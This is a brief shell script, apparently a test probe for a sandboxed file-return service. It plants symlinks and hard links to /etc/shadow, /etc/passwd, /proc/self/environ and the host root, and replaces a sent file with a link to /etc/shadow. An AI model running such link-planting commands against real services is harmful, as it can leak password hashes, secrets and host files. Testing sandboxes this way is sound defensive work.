# Plants symlinks and hard links to host files, the service's own file (its host path is $1) and
# /proc/self, hoping the files coming back follow them. Replaces a sent file by a link too.
ln -s /etc/shadow shadow
ln -s /etc/passwd passwd
ln -s "$1" service-file
ln -s /proc/self/environ environ
ln -s /proc/1/root host-root
ln -s /proc/self/root/etc/hostname hostname
ln -s ../../etc/hostname up
mkdir d && ln -s /etc d/etc
ln /etc/passwd hard-passwd 2>/dev/null || echo "hard link to /etc/passwd refused"
ln keep.txt hard-keep
rm given.txt && ln -s /etc/shadow given.txt
echo planted
